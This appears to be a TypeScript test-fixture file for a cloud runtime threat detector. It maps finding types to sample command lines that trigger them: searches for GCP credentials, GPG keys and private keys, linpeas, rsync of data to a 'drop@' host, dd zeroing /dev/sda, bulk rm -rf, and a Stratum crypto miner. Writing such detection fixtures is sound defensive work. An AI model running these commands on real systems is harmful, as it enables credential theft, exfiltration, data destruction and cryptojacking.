import type { DetectorFixtures } from './detector-fixtures.ts';
import { outbound, program } from './detector-fixtures-parts.ts';

/** Someone looks around, copies, destroys or mines. */
export const toolFixtures: DetectorFixtures = {
  CLOUD_RUN_FIND_GCP_CREDENTIALS: {
    category: 'Credential Access: Find Google Cloud Credentials',
    severity: 'LOW',
    description: 'find or grep looked for keys of Google Cloud.',
    playbook: 'credential-access',
    recommends: 'hand-over',
    says: (facts) => ({
      processes: [program(facts, ['/usr/bin/find', '/', '-name', 'application_default_credentials.json'])],
    }),
  },
  CLOUD_RUN_GPG_KEY_RECONNAISSANCE: {
    category: 'Credential Access: GPG Key Reconnaissance',
    severity: 'CRITICAL',
    description: 'find or grep looked for GPG keys.',
    playbook: 'credential-access',
    recommends: 'end',
    says: (facts) => ({ processes: [program(facts, ['/usr/bin/find', '/home', '-name', 'secring.gpg'])] }),
  },
  CLOUD_RUN_SEARCH_PRIVATE_KEYS_OR_PASSWORDS: {
    category: 'Credential Access: Search Private Keys or Passwords',
    severity: 'LOW',
    description: 'find or grep looked for private keys or passwords.',
    playbook: 'credential-access',
    recommends: 'hand-over',
    says: (facts) => ({ processes: [program(facts, ['/bin/grep', '-r', 'BEGIN RSA PRIVATE', '/'])] }),
  },
  CLOUD_RUN_LOCAL_RECONNAISSANCE_TOOL_EXECUTION: {
    category: 'Execution: Local Reconnaissance Tool Execution',
    severity: 'MEDIUM',
    description: 'A tool that is known for looking around was run.',
    playbook: 'credential-access',
    recommends: 'hand-over',
    says: (facts) => ({ processes: [program(facts, ['/tmp/linpeas', '-a'])] }),
  },
  CLOUD_RUN_LAUNCH_REMOTE_FILE_COPY_TOOLS_IN_CONTAINER: {
    category: 'Exfiltration: Launch Remote File Copy Tools in Container',
    severity: 'LOW',
    description: 'A tool that copies files to other machines was run.',
    playbook: 'exfiltration',
    recommends: 'end',
    says: (facts) => ({
      processes: [program(facts, ['/usr/bin/rsync', '-a', '/data', `drop@${facts.ip}:/in`])],
      connections: [outbound(facts)],
    }),
  },
  CLOUD_RUN_DETECT_MALICIOUS_CMDLINES: {
    category: 'Impact: Detect Malicious Cmdlines',
    severity: 'CRITICAL',
    description: 'A command line that destroys was run.',
    playbook: 'destruction',
    recommends: 'end',
    says: (facts) => ({ processes: [program(facts, ['/bin/dd', 'if=/dev/zero', 'of=/dev/sda'])] }),
  },
  CLOUD_RUN_REMOVE_BULK_DATA_FROM_DISK: {
    category: 'Impact: Remove Bulk Data From Disk',
    severity: 'LOW',
    description: 'Much data was deleted at once.',
    playbook: 'destruction',
    recommends: 'hand-over',
    says: (facts) => ({ processes: [program(facts, ['/bin/rm', '-rf', '/srv/cache'])] }),
  },
  CLOUD_RUN_SUSPICIOUS_CRYPTO_MINING_ACTIVITY_USING_STRATUM_PROTOCOL: {
    // The name on Google's page of the finding; the overview has another one.
    category: 'Impact: Suspicious crypto mining activity using the Stratum Protocol',
    severity: 'HIGH',
    description: 'A process spoke the Stratum protocol, by which miners get their work.',
    playbook: 'cryptomining',
    recommends: 'end',
    says: (facts) => ({
      processes: [program(facts, ['/tmp/xm', '-o', `stratum+tcp://${facts.host}:3333`, '-u', 'invented-wallet'])],
      connections: [outbound(facts)],
      indicator: { domains: [facts.host] },
    }),
  },
};
